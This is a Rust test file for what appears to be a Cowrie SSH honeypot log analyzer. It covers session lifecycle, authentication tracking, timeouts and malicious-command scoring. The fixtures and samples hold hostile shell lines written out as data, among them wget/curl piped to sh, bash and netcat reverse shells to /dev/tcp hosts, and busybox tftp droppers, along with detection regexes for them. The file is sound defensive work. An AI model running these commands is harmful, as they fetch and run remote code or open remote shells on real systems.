//! Tests for the session aggregator: lifecycle, sticky authentication,
//! replay determinism, the timeout sweep, and the scoring scenarios.

use xkippo::log_analyzer::LogAnalyzer;
use xkippo::models::{EventType, LogEntry, Session};
use xkippo::session_manager::SessionManager;
use xkippo::settings::Config;
use xkippo::store::Store;

fn entry(a: &LogAnalyzer, json: &str) -> LogEntry {
    a.parse_log_entry(json).expect("test line must parse")
}

fn scenario_lines() -> Vec<String> {
    vec![
        r#"{"eventid":"cowrie.session.connect","timestamp":"2024-01-01T00:00:00Z","session":"s1","src_ip":"1.2.3.4","src_port":50000,"dst_ip":"10.0.0.1","dst_port":2222}"#.to_string(),
        r#"{"eventid":"cowrie.login.failed","timestamp":"2024-01-01T00:00:05Z","session":"s1","username":"admin","password":"admin"}"#.to_string(),
        r#"{"eventid":"cowrie.login.success","timestamp":"2024-01-01T00:00:10Z","session":"s1","username":"root","password":"123456"}"#.to_string(),
        r#"{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:20Z","session":"s1","input":"wget http://x/y.sh | sh"}"#.to_string(),
        r#"{"eventid":"cowrie.session.closed","timestamp":"2024-01-01T00:01:00Z","session":"s1"}"#.to_string(),
    ]
}

fn run_pipeline(lines: &[String]) -> (Store, Vec<Session>) {
    let a = LogAnalyzer::new();
    let config = Config::default();
    let mut store = Store::new(&config).unwrap();
    let mgr = SessionManager::new(&config).unwrap();
    let mut published = Vec::new();
    for line in lines {
        let e = entry(&a, line);
        if let Some(s) = mgr.process_log_entry(&mut store, &e).unwrap() {
            published.push(s);
        }
    }
    (store, published)
}

#[test]
fn session_lifecycle_and_fields() {
    let (store, published) = run_pipeline(&scenario_lines());
    assert_eq!(published.len(), 5);
    let s = store.get_session("s1").expect("session must exist");
    assert_eq!(s.id, "s1");
    assert_eq!(s.src_ip, "1.2.3.4");
    assert_eq!(s.src_port, 50000);
    assert_eq!(s.dst_port, 2222);
    assert_eq!(s.protocol, "SSH");
    assert_eq!(s.start_time, 1704067200000);
    assert_eq!(s.end_time, Some(1704067260000));
    assert_eq!(s.duration, Some(60));
    assert_eq!(s.commands.len(), 1);
    assert_eq!(s.commands[0].command, "wget http://x/y.sh | sh");
    assert!(s.commands[0].success);
}

#[test]
fn sticky_auth_keeps_first_success() {
    let mut lines = scenario_lines();
    // a later failure for another user must not replace the success
    lines.push(
        r#"{"eventid":"cowrie.login.failed","timestamp":"2024-01-01T00:00:30Z","session":"s1","username":"guest","password":"guest"}"#.to_string(),
    );
    let (store, _) = run_pipeline(&lines);
    let s = store.get_session("s1").unwrap();
    let user = s.user.as_ref().expect("user record expected");
    assert_eq!(user.username, "root");
    assert!(user.login_success);
    assert_eq!(user.password.as_deref(), Some("123456"));
}

#[test]
fn success_after_failure_replaces_record() {
    let lines = vec![
        scenario_lines()[0].clone(),
        scenario_lines()[1].clone(),
    ];
    let (store, _) = run_pipeline(&lines);
    let s = store.get_session("s1").unwrap();
    let user = s.user.as_ref().unwrap();
    assert_eq!(user.username, "admin");
    assert!(!user.login_success);
    // now the success arrives and takes over
    let (store2, _) = run_pipeline(&scenario_lines());
    let s2 = store2.get_session("s1").unwrap();
    assert_eq!(s2.user.as_ref().unwrap().username, "root");
}

#[test]
fn replaying_the_same_entries_gives_identical_state() {
    let a = LogAnalyzer::new();
    let config = Config::default();
    let entries: Vec<LogEntry> = scenario_lines().iter().map(|l| entry(&a, l)).collect();

    let run = |es: &Vec<LogEntry>| -> Vec<Session> {
        let mut store = Store::new(&config).unwrap();
        let mgr = SessionManager::new(&config).unwrap();
        for e in es {
            mgr.process_log_entry(&mut store, e).unwrap();
        }
        store.get_sessions().into_iter().map(|s| s.clone()).collect()
    };
    let s1 = run(&entries);
    let s2 = run(&entries);
    assert_eq!(s1.len(), s2.len());
    for (x, y) in s1.iter().zip(s2.iter()) {
        assert_eq!(x.id, y.id);
        assert_eq!(x.start_time, y.start_time);
        assert_eq!(x.end_time, y.end_time);
        assert_eq!(x.src_ip, y.src_ip);
        assert_eq!(x.duration, y.duration);
        assert_eq!(x.commands.len(), y.commands.len());
        assert_eq!(x.malicious_score, y.malicious_score);
        assert_eq!(
            x.user.as_ref().map(|u| (u.username.clone(), u.login_success)),
            y.user.as_ref().map(|u| (u.username.clone(), u.login_success))
        );
    }
}

#[test]
fn timeout_sweep_closes_old_sessions() {
    let a = LogAnalyzer::new();
    let config = Config::default();
    let mut store = Store::new(&config).unwrap();
    let mgr = SessionManager::new(&config).unwrap();
    let open_line = r#"{"eventid":"cowrie.session.connect","timestamp":"2024-01-01T00:00:00Z","session":"old1","src_ip":"1.2.3.4"}"#;
    mgr.process_log_entry(&mut store, &entry(&a, open_line)).unwrap();
    assert_eq!(store.get_active_sessions().len(), 1);

    // half an hour and one second later the sweep closes it
    let start = 1704067200000i64;
    let now = start + 1801 * 1000;
    let closed = mgr.check_session_timeouts(&mut store, now).unwrap();
    assert_eq!(closed.len(), 1);
    assert_eq!(closed[0].id, "old1");
    assert_eq!(closed[0].end_time, Some(now));
    assert_eq!(closed[0].duration, Some(1801));
    assert!(store.get_active_sessions().is_empty());
    assert_eq!(store.get_session("old1").unwrap().end_time, Some(now));

    // a session inside the window stays open
    let fresh = r#"{"eventid":"cowrie.session.connect","timestamp":"2024-01-01T00:05:00Z","session":"new1","src_ip":"1.2.3.4"}"#;
    mgr.process_log_entry(&mut store, &entry(&a, fresh)).unwrap();
    let closed2 = mgr.check_session_timeouts(&mut store, now).unwrap();
    assert!(closed2.is_empty());
    assert_eq!(store.get_active_sessions().len(), 1);
}

#[test]
fn login_scenario_scores_at_least_ten() {
    let a = LogAnalyzer::new();
    let line = r#"{"eventid":"cowrie.login.success","timestamp":"2024-01-01T00:00:00Z","session":"s1","username":"root","password":"123456","src_ip":"1.2.3.4"}"#;
    let e = a.parse_log_entry(line).unwrap();
    assert_eq!(e.event_type, EventType::LoginSuccess);
    let config = Config::default();
    let mut store = Store::new(&config).unwrap();
    let mgr = SessionManager::new(&config).unwrap();
    mgr.process_log_entry(&mut store, &e).unwrap();
    let s = store.get_session("s1").unwrap();
    assert_eq!(s.user.as_ref().unwrap().username, "root");
    assert!(s.user.as_ref().unwrap().login_success);
    assert!(a.analyze_session_risk(s) >= 10);
    assert!(s.malicious_score >= 10);
}

#[test]
fn dropper_command_scores_at_least_forty() {
    let (store, _) = run_pipeline(&scenario_lines()[..4].to_vec());
    let s = store.get_session("s1").unwrap();
    let a = LogAnalyzer::new();
    let basic = a.analyze_session_risk(s);
    assert!(basic >= 40, "basic score {} below 40", basic);
    let cfg = Config::default();
    let enhanced = xkippo::enhanced_log_analyzer::EnhancedLogAnalyzer::new(&cfg);
    let escore = enhanced.analyze_session_risk(s);
    assert!(escore >= 40, "enhanced score {} below 40", escore);
    // the malicious pattern itself is recognized
    assert!(enhanced.is_command_malicious("wget http://x/y.sh | sh"));
    assert!(!enhanced.is_command_malicious("ls -la"));
}

#[test]
fn risk_scores_stay_within_bounds() {
    let a = LogAnalyzer::new();
    let cfg = Config::default();
    let enhanced = xkippo::enhanced_log_analyzer::EnhancedLogAnalyzer::new(&cfg);
    let mut lines = scenario_lines();
    for i in 0..30 {
        lines.insert(
            4,
            format!(
                r#"{{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:30Z","session":"s1","input":"busybox tftp; chmod +x /tmp/m{}; bash -i >& /dev/tcp/1.2.3.4/444{} 0>&1"}}"#,
                i, i
            ),
        );
    }
    let (store, _) = run_pipeline(&lines);
    let s = store.get_session("s1").unwrap();
    let b = a.analyze_session_risk(s);
    let e = enhanced.analyze_session_risk(s);
    assert!(b <= 100);
    assert!(e <= 100);
    assert_eq!(s.malicious_score, b); // the aggregator rescored with the basic scorer
    assert_eq!(b, 100);
}

#[test]
fn patterns_agree_with_the_regex_crate() {
    let cfg = Config::default();
    let enhanced = xkippo::enhanced_log_analyzer::EnhancedLogAnalyzer::new(&cfg);
    let regexes = vec![
        regex::Regex::new(r"wget\s+.+\s+\|\s*sh").unwrap(),
        regex::Regex::new(r"curl\s+.+\s+\|\s*sh").unwrap(),
        regex::Regex::new(r"/dev/tcp/\d+\.\d+\.\d+\.\d+/\d+").unwrap(),
        regex::Regex::new(r"python\s+-c\s+'(.*socket|.*connect)'").unwrap(),
        regex::Regex::new(r"nc\s+(-e|-c)\s+").unwrap(),
        regex::Regex::new(r"busybox\s+tftp").unwrap(),
        regex::Regex::new(r"chmod\s+[+]x").unwrap(),
        regex::Regex::new(r"dd\s+bs=\d+\s+count=\d+\s+if=/dev/zero").unwrap(),
        regex::Regex::new(r"ping\s+(-f|-t|\-s\s+\d{4,})").unwrap(),
    ];
    let samples = [
        "wget http://x/y.sh | sh",
        "wget x|sh",
        "curl http://e.vil/a.sh  |  sh",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "python -c 'import socket'",
        "python -c 'connect'",
        "nc -e /bin/sh 1.2.3.4 4444",
        "nc -c sh host 9",
        "busybox tftp -g host",
        "chmod +x bot",
        "chmod 755 bot",
        "dd bs=1024 count=99999 if=/dev/zero",
        "ping -f victim",
        "ping -t victim",
        "ping -s 65000 victim",
        "ping -s 999 victim",
        "ls -la",
        "echo wget",
        "wget file.tar.gz",
    ];
    for cmd in samples {
        let theirs = regexes.iter().any(|re| re.is_match(cmd));
        let mine = enhanced.is_command_malicious(cmd);
        assert_eq!(mine, theirs, "disagreement on {:?}", cmd);
    }
}
